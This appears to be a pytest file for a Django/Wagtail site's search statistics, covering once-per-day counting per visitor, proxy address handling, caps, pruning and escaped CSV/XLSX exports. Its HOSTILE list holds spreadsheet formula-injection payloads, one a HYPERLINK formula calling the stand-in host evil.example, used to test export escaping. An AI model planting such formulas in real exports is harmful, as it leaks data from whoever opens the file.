"""What visitors' searches may write to the editors' statistics, and how it leaves the admin."""

import csv
import io
from datetime import timedelta

import pytest
import time_machine
from openpyxl import load_workbook

from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from wagtail.contrib.search_promotions.models import Query, QueryDailyHits, SearchPromotion

from casestudies.models import CaseStudyPage
from search.models import UnansweredQuery
from tests.factories import case_study
from tests.utils import index_pages

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=hyperlink("http://evil.example/?"&a1;"klicka")',
    "+1+cmd",
    "-2+3",
    "@sum(1;2)",
]


@pytest.fixture
def content(library):
    """One indexed case study, which "Malmö" finds."""
    case_study(library, "Klimatkontrakt i Malmö", slug="malmo", municipalities=["1280"])
    index_pages(CaseStudyPage)


def search(client, query, visitor="198.51.100.1", **headers):
    """The search page for `query`, asked for from the address `visitor`."""
    response = client.get("/sv/sok/", {"q": query}, REMOTE_ADDR=visitor, **headers)
    assert response.status_code == 200
    return response


def hits(query_string):
    return Query.get(query_string).hits


def unanswered(query_string):
    return UnansweredQuery.objects.get(query_string=query_string).hits


def writes(queries):
    return [q["sql"] for q in queries if q["sql"].split()[0] in {"INSERT", "UPDATE", "DELETE"}]


def test_a_visitor_counts_once_a_day_and_a_repeat_writes_nothing(client, content):
    """The same query from the same address counts once that day, without a cookie; a new
    day counts again."""
    first = search(client, "Malmö")
    assert not first.cookies
    with CaptureQueriesContext(connection) as queries:
        search(client, "zzqxv")
    assert writes(queries.captured_queries)
    for query in ("MALMÖ ", "zzqxv"):
        with CaptureQueriesContext(connection) as queries:
            repeat = search(client, query)
        assert not writes(queries.captured_queries)
        assert not repeat.cookies
    assert hits("malmö") == 1
    assert unanswered("zzqxv") == 1
    with time_machine.travel(timezone.now() + timedelta(days=1)):
        search(client, "Malmö")
    assert hits("malmö") == 2


def test_other_visitors_count_again(client, content):
    """Another address counts the same query again, in both reports."""
    for visitor in ("198.51.100.1", "198.51.100.2", "2001:db8::7"):
        search(client, "Malmö", visitor)
        search(client, "zzqxv", visitor)
    assert hits("malmö") == 3
    assert unanswered("zzqxv") == 3


def test_behind_a_proxy_the_forwarded_address_is_the_visitor(client, content, settings):
    """Behind a trusted proxy every request comes from it: the address it appends decides."""
    settings.USE_X_FORWARDED_FOR = True
    proxy = "10.0.0.1"
    search(client, "Malmö", proxy, HTTP_X_FORWARDED_FOR="203.0.113.5")
    search(client, "Malmö", proxy, HTTP_X_FORWARDED_FOR="203.0.113.5")
    # A visitor cannot count again by sending its own X-Forwarded-For ahead of the proxy's.
    search(client, "Malmö", proxy, HTTP_X_FORWARDED_FOR="192.0.2.99, 203.0.113.5")
    assert hits("malmö") == 1
    search(client, "Malmö", proxy, HTTP_X_FORWARDED_FOR="203.0.113.6")
    assert hits("malmö") == 2


def test_past_the_daily_cap_no_new_query_is_recorded(client, content, settings):
    """Once the day's cap of distinct queries is reached, new ones leave no row; those already
    counted that day still count."""
    settings.SEARCH_STATISTICS_NEW_PER_DAY = 2
    for query in ("zzqxv", "yyqxv", "xxqxv", "wwqxv"):
        search(client, query)
    assert sorted(Query.objects.values_list("query_string", flat=True)) == ["yyqxv", "zzqxv"]
    assert QueryDailyHits.objects.count() == 2
    assert sorted(UnansweredQuery.objects.values_list("query_string", flat=True)) == [
        "yyqxv",
        "zzqxv",
    ]
    search(client, "zzqxv", "198.51.100.2")
    assert hits("zzqxv") == 2
    assert unanswered("zzqxv") == 2
    with time_machine.travel(timezone.now() + timedelta(days=1)):
        search(client, "xxqxv")
    assert hits("xxqxv") == 1
    assert unanswered("xxqxv") == 1


def test_a_new_query_does_not_count_the_days_statistics(client, content):
    """Checking the day's cap reads no statistics table whole: new words from a visitor cost
    no more as the tables grow."""
    for number in range(30):
        search(client, f"ord{number}qxv", f"198.51.100.{number + 10}")
    with CaptureQueriesContext(connection) as queries:
        search(client, "nyttordqxv")
    counting = [q["sql"] for q in queries if "COUNT(" in q["sql"].upper()]
    assert not [sql for sql in counting if "querydailyhits" in sql or "unansweredquery" in sql]
    assert hits("nyttordqxv") == 1
    assert unanswered("nyttordqxv") == 1


def test_the_prune_command_removes_old_statistics_and_keeps_new(client, content):
    """Statistics past the age go, with queries left without hits; recent ones and queries
    with editors' picks stay."""
    with time_machine.travel(timezone.now() - timedelta(days=400)):
        search(client, "zzqxv")
        search(client, "Malmö")
        search(client, "göteborg")
    SearchPromotion.objects.create(
        query=Query.get("göteborg"), external_link_url="https://example.org/", sort_order=0
    )
    search(client, "yyqxv")
    search(client, "Malmö")
    out = io.StringIO()
    call_command("prune_search_statistics", days=365, stdout=out)
    assert sorted(Query.objects.values_list("query_string", flat=True)) == [
        "göteborg",
        "malmö",
        "yyqxv",
    ]
    assert hits("malmö") == 1
    assert hits("göteborg") == 0
    assert list(UnansweredQuery.objects.values_list("query_string", flat=True)) == ["yyqxv"]
    assert "search.UnansweredQuery: 2 deleted" in out.getvalue()  # zzqxv and göteborg


def test_the_prune_command_keeps_each_table_under_its_cap(client, content):
    """Past the cap, the oldest rows go first."""
    for days_ago, query in [(3, "zzqxv"), (2, "yyqxv"), (1, "xxqxv")]:
        with time_machine.travel(timezone.now() - timedelta(days=days_ago)):
            search(client, query)
    call_command("prune_search_statistics", max_rows=2, stdout=io.StringIO())
    assert sorted(Query.objects.values_list("query_string", flat=True)) == ["xxqxv", "yyqxv"]
    assert sorted(UnansweredQuery.objects.values_list("query_string", flat=True)) == [
        "xxqxv",
        "yyqxv",
    ]


def exported_csv(admin_client, path):
    response = admin_client.get(path, {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def exported_xlsx(admin_client, path):
    response = admin_client.get(path, {"export": "xlsx"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    return list(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))


REPORTS = [
    pytest.param("search_unanswered_queries", id="searches without results"),
    pytest.param("search_unanswered_queries_results", id="searches without results, results"),
    pytest.param("wagtailsearchpromotions:search_terms", id="search terms"),
    pytest.param("wagtailsearchpromotions:search_terms_results", id="search terms, results"),
]


@pytest.mark.parametrize("report", REPORTS)
def test_exported_queries_never_run_as_formulas(client, admin_client, content, report):
    """A query that a spreadsheet would run as a formula is exported as text: a CSV cell
    with a leading quote, an XLSX cell of text."""
    for query in [*HOSTILE, "Malmö"]:
        search(client, query)
    path = reverse(report)
    cells = {row[0] for row in exported_csv(admin_client, path)[1:]}
    assert {f"'{query}" for query in HOSTILE} <= cells
    if "unanswered" not in report:
        assert "malmö" in cells  # plain text is left alone
    first_cells = [row[0] for row in exported_xlsx(admin_client, path)]
    assert {cell.value for cell in first_cells} >= set(HOSTILE)
    assert {cell.data_type for cell in first_cells} == {"s"}


def test_cells_beginning_with_a_tab_or_carriage_return_are_exported_as_text(admin_client, db):
    """Queries that visitors cannot type but could reach the table otherwise are escaped too."""
    for query_string in ("\t=1+1", "\r=1+1", "\n@x"):
        UnansweredQuery.objects.create(
            query_string=query_string, language="sv", hits=1, last_searched_at=timezone.now()
        )
    rows = exported_csv(admin_client, reverse("search_unanswered_queries"))
    assert {row[0] for row in rows[1:]} == {"'\t=1+1", "'\r=1+1", "'\n@x"}
